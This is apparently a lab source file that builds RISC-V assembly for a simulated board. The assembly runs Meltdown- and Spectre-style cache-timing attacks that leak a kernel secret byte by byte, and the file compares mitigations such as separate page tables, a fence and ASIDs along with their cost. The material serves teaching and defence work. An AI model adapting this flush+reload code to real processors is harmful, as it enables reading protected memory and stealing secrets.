"""A program that reads a kernel's memory through the cache, on the bare board: the program, the kernel, and what it found.

Trap entries are in a page of their own, which both page tables have where the kernel is kept out of the program's.
"""

from __future__ import annotations

import struct
from trapline.typed import NamedTuple

from trapline.labs.code import bare
from trapline.labs.code.spaces import EXECUTE, READ, USER, WRITE, Frames
from trapline.labs.code.speculation import MISS, CarefulBoard, SpeculativeBoard
from trapline.labs.code.text import assemble
from trapline.machine.paging.entry import PAGE_SHIFT, PAGE_SIZE
from trapline.machine.riscv.addresses import FINISHER, RAM_BASE
from trapline.machine.riscv.status import CBCFE, MODE_SHIFT, SUM, SV39_MODE
from trapline.machine.riscv.trap import ECALL_U, LOAD_PAGE, STORE_PAGE

KERNEL = 0xFFFF_FFC0_0000_0000  #: the kernel's code; behind it its data, and its device
SECRET, LOG, DEVICE, TABLE = (KERNEL + each for each in (0x1_0000, 0x2_0000, 0x3_0000, 0x4_0000))
_LIMIT = 16  #: bytes of the kernel's table; behind it, how many there are
TRAMPOLINE = 0x3F_FFFF_F000  #: in both tables: where traps enter and leave
CODE, PROBE = 0x1_0000, 0x10_0000  #: of the program: its code, and the lines that it watches
LINE, VALUES = 64, 256
MOST = 20_000_000
TEXT = b"open sesame!"
VULNERABLE, CAREFUL = "vulnerable", "careful"
MELTDOWN, SPECTRE = "meltdown", "spectre"

_ATTACK = """
    li s0, SECRET
    li s1, BYTES
    li s2, PROBE
    li s3, VALUES
next_byte:
    TRAIN
    mv t0, s2
    li t1, 0
flush:
    cbo.flush (t0)
    addi t0, t0, LINE
    addi t1, t1, 1
    bltu t1, s3, flush
    STEAL
    li a0, 0                    # the answer
    li t1, 1
    addi t0, s2, LINE
look:
    csrr a1, cycle
    lbu a3, 0(t0)
    csrr a2, cycle
    sub a2, a2, a1
    li a4, SLOW
    bgeu a2, a4, slow
    mv a0, t1
slow:
    addi t0, t0, LINE
    addi t1, t1, 1
    bltu t1, s3, look
    li a7, 1
    ecall                       # report it
    addi s0, s0, 1
    addi s1, s1, -1
    bnez s1, next_byte
    li s1, CALLS                # and now the price
    csrr s4, cycle
    li a7, 0
call:
    ecall
    addi s1, s1, -1
    bnez s1, call
    csrr s5, cycle
    sub a0, s5, s4
    li a7, 2
    ecall
"""
#: what a program does for one byte, before it flushes the lines and after
_STEPS = {
    MELTDOWN: ("", """
    li t0, 0
    lbu t0, 0(s0)               # faults; what follows runs ahead with the byte, and then again with 0
    slli t0, t0, 6
    add t0, t0, s2
    lbu t1, 0(t0)
    """),
    SPECTRE: ("""
    li a7, 3
    li a0, 0
    ecall                       # the kernel's check is used to being passed
    ecall
    ecall
    """, """
    li t0, TABLE
    sub a0, s0, t0              # as an index, the secret is behind the kernel's table
    li a7, 3
    ecall
    """),
}  # fmt: skip
_FIRMWARE = """
    la t0, stop
    csrw mtvec, t0
    li t0, -1
    csrw pmpaddr0, t0
    li t0, 31
    csrw pmpcfg0, t0
    li t0, 7
    csrw mcounteren, t0
    csrw scounteren, t0
    li t0, CBCFE                # user mode may flush its cache lines
    csrs menvcfg, t0
    csrs senvcfg, t0
    li t0, DELEGATED
    csrw medeleg, t0
    li t0, TRAMPOLINE
    csrw stvec, t0
    li t0, USER_TABLE
    csrw satp, t0
    sfence.vma
    li t0, CODE
    csrw mepc, t0
    li t0, SUM                  # the kernel may touch what is the user's
    csrw mstatus, t0
    mret
.align 4
stop:
    li t0, FINISHER
    li t1, PASS
    sw t1, 0(t0)
"""
#: by convention the program keeps nothing in t3 to t6
_ENTRY = """
    ENTER
    li t6, KERNEL
    jr t6
.align 64
    LEAVE
    sret
"""
_SERVE = """
    csrr t3, sepc
    addi t3, t3, 4
    csrw sepc, t3
    li t5, LOG
    csrr t3, scause
    li t4, ECALL_U
    bne t3, t4, fault
    beqz a7, back
    addi t3, a7, -3
    beqz t3, look_up
    addi t3, a7, -1
    bnez t3, end
    ld t3, 0(t5)                # a byte is reported
    addi t4, t3, 1
    sd t4, 0(t5)
    add t3, t3, t5
    sb a0, 64(t3)
    j back
fault:
    ld t3, 8(t5)
    addi t3, t3, 1
    sd t3, 8(t5)
back:
    li t6, EXIT
    jr t6
look_up:                        # a call with an index: a line of the program's is touched by what the table says
    li t4, TABLE
    ld t3, LIMIT(t4)
    bgeu a0, t3, back
    FENCE
    add t4, t4, a0
    lbu t4, 0(t4)
    slli t4, t4, 6
    li t3, PROBE
    add t4, t4, t3
    lbu t4, 0(t4)
    j back
end:
    sd a0, 16(t5)
    li t5, DEVICE
    li t4, PASS
    sw t4, 0(t5)
"""


class Setting(NamedTuple):
    """attack: MELTDOWN or SPECTRE. core: VULNERABLE or CAREFUL. calls: by which the price is counted. apart: the program's
    page table lacks the kernel. fence: behind the kernel's check. asid: address spaces have numbers, so nothing is flushed."""

    attack: str
    core: str
    calls: int
    apart: bool
    fence: bool
    asid: bool


class Leak(NamedTuple):
    """What the program found (0: nothing for this byte), how many of its loads faulted, and what its calls took."""

    found: list[int]
    faults: int
    cycles: int


def leak(how: Setting) -> Leak:
    frames = Frames()
    secret, log = frames.alloc(TEXT), frames.alloc()
    table = frames.alloc(bytes(_LIMIT) + _LIMIT.to_bytes(8, "little"))
    code, entry, serve = frames.alloc(), frames.alloc(), frames.alloc()
    lines = [frames.alloc() for _ in range(VALUES * LINE // PAGE_SIZE)]
    user = frames.alloc()
    kernel = frames.alloc() if how.apart else user
    for root in {user, kernel}:
        frames.map(root, TRAMPOLINE, entry, READ | EXECUTE)
    frames.map(user, CODE, code, READ | EXECUTE | USER)
    for n, page in enumerate(lines):
        for root in {user, kernel}:  # a kernel's table has the program's memory, too
            frames.map(root, PROBE + n * PAGE_SIZE, page, READ | WRITE | USER)
    frames.map(kernel, KERNEL, serve, READ | EXECUTE)
    for va, pa in ((SECRET, secret), (LOG, log), (TABLE, table), (DEVICE, FINISHER)):
        frames.map(kernel, va, pa, READ | WRITE)
    tables = [SV39_MODE << MODE_SHIFT | n * how.asid << 44 | root >> PAGE_SHIFT for n, root in enumerate((user, kernel), 1)]
    names = {
        **bare.PLACES, "SECRET": SECRET, "LOG": LOG, "DEVICE": DEVICE, "CODE": CODE, "PROBE": PROBE, "LINE": LINE,
        "VALUES": VALUES, "BYTES": len(TEXT), "SLOW": MISS // 2, "CALLS": how.calls, "CBCFE": CBCFE,
        "TRAMPOLINE": TRAMPOLINE,
        "USER_TABLE": tables[0], "KERNEL_TABLE": tables[1], "KERNEL": KERNEL, "ECALL_U": ECALL_U, "EXIT": TRAMPOLINE + 64,
        "TABLE": TABLE, "LIMIT": _LIMIT, "SUM": SUM,
        "DELEGATED": 1 << ECALL_U | 1 << LOAD_PAGE | 1 << STORE_PAGE,
    }  # fmt: skip
    change = "li t6, {}\ncsrw satp, t6\n" + ("" if how.asid else "sfence.vma\n") if how.apart else ""
    trampoline = _ENTRY.replace("ENTER", change.format("KERNEL_TABLE")).replace("LEAVE", change.format("USER_TABLE"))
    train, steal = _STEPS[how.attack]
    content = {
        code: assemble(_ATTACK.replace("TRAIN", train).replace("STEAL", steal), CODE, names).link(),
        serve: assemble(_SERVE.replace("FENCE", "fence" if how.fence else ""), KERNEL, names).link(),
        entry: assemble(trampoline, TRAMPOLINE, names).link(),
    }  # fmt: skip
    pieces = [(at, content.get(at, page)) for at, page in frames.pieces()]
    board = SpeculativeBoard if how.core == VULNERABLE else CarefulBoard
    memory, _ = bare.run(assemble(_FIRMWARE, RAM_BASE, names), most=MOST, pieces=pieces, make=board)
    reported, faults, cycles = struct.unpack_from("<3Q", memory, log - RAM_BASE)
    found = memory[log - RAM_BASE + 64 :][: min(reported, len(TEXT))]
    return Leak(list(found), faults, cycles)
